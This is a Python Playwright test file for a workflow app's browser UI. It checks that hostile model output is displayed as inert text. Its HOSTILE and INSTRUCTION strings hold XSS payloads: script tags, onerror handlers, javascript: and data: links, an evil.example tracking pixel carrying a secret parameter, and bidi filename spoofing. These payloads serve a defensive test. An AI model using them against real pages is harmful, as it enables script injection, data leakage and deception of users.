"""Model output is data: whatever a model writes, nothing of it is executed, fetched or obeyed by the page."""

from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

from playwright.sync_api import Page, Route, expect

from conductor_core.chat.messages import Message, Usage
from conductor_core.run import events as ev
from conductor_core.run.events import Event
from conductor_core.run.values import SharedOutput
from conductor_core.workflow.model import Step, Workflow
from tests.browser.conftest import App
from tests.support.run_events import created, planned, run_completed, sha256, step_started

HOSTILE = """# Title <script>window.pwned = 1</script>

<img src="https://evil.example/a.png" onerror="window.pwned = 1">
</script><script>window.pwned = 1</script>
<iframe src="https://evil.example/"></iframe><style>* { display: none }</style>

![pixel](https://evil.example/pixel.png?secret=1)
[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [plain](https://example.org/x)

\x1b[31mred\x1b[0m \x07bell \u202egnp.exe\u202c hidden\U000e0041tag

| a | b |
|:--|--:|
| 1 | <b onclick="window.pwned=1">2</b> |

```html
</code></pre><script>window.pwned = 1</script>
```
"""
INSTRUCTION = '<img src=x onerror="window.pwned=1"> \u202eevil\u202c "href" </script>'


def _hostile_run(run_id: str) -> list[Event]:
    workflow = Workflow(
        steps=(
            Step(instruction=INSTRUCTION, agent="solver"),
            Step(instruction="Check it.", agent="<b>checker</b>", access_list=(0,)),
        )
    )
    shared = SharedOutput(path=(0,), agent="solver", sha256=sha256(HOSTILE), characters=len(HOSTILE), tokens=200)
    plan = [event for event in planned(run_id, workflow) if not isinstance(event, ev.PlanDelta)]
    pieces = [HOSTILE[start : start + 7] for start in range(0, len(HOSTILE), 7)]
    return [
        created(run_id, task=INSTRUCTION),
        plan[0],
        ev.PlanDelta(run_id=run_id, text="<script>window.pwned=1</script>\nmodel_id = [0]\nsubtasks = ['<img src=x>"),
        plan[-1],
        step_started(run_id, 0, 30),
        *(ev.StepDelta(run_id=run_id, path=(0,), text=piece) for piece in pieces),
        _completed(run_id, 0),
        step_started(run_id, 1, 60).model_copy(
            update={"granted": (shared,), "messages": (Message(role="user", content=HOSTILE),)}
        ),
        _completed(run_id, 1),
        run_completed(run_id, HOSTILE),
    ]


def _completed(run_id: str, index: int) -> ev.StepCompleted:
    return ev.StepCompleted(
        run_id=run_id,
        path=(index,),
        output=HOSTILE,
        output_sha256=sha256(HOSTILE),
        finish_reason="stop",
        usage=Usage(input_tokens=1, output_tokens=200),
        duration_ms=5,
    )


def test_hostile_output_is_shown_and_does_nothing(app: App, open_page: Callable[..., Page]) -> None:
    events = _hostile_run("hostile")
    _append(app, events[:-3])
    page = open_page("about:blank")
    foreign: list[str] = []

    def watch(route: Route) -> None:
        foreign.append(route.request.url)
        route.abort()

    page.route(lambda url: not url.startswith((app.url, "data:", "blob:", "about:")), watch)
    page.goto(app.run_url("hostile"))
    expect(page.locator('.pane[data-step="0"] .prose')).to_contain_text("<script>window.pwned = 1</script>")
    _append(app, events[-3:])
    expect(page.locator(".bar")).to_contain_text("Title <script>")
    for tab in ("Output", "What it saw", "Messages", "Cost", "Edit"):
        page.locator(".inspector").get_by_role("tab", name=tab, exact=True).click()
    page.locator(".plan-button").click()
    for tab in ("Plan", "Prompt", "Cost"):
        page.locator(".inspector").get_by_role("tab", name=tab, exact=True).click()
    prose = page.locator('.pane[data-step="0"] .prose')
    expect(prose).to_contain_text("⟨U+001B⟩[31mred")
    expect(prose).to_contain_text("⟨U+202E⟩gnp.exe")
    expect(prose).to_contain_text("hidden⟨U+E0041⟩tag")
    assert page.evaluate("window.pwned") is None
    assert foreign == []
    root = page.locator(".live-workflow")
    for tag in ("script", "img", "iframe", "style", "object"):
        assert root.locator(tag).count() == 0, tag
    links = root.locator(".prose a").evaluate_all("links => links.map(({ href, rel }) => [href, rel])")
    assert {href for href, _ in links} == {"https://evil.example/pixel.png?secret=1", "https://example.org/x"}
    assert {rel for _, rel in links} == {"noopener noreferrer nofollow"}


def _append(app: App, events: list[Event]) -> None:
    with ThreadPoolExecutor(1) as aside:
        aside.submit(app.store.log.append_and_wait, *events).result()
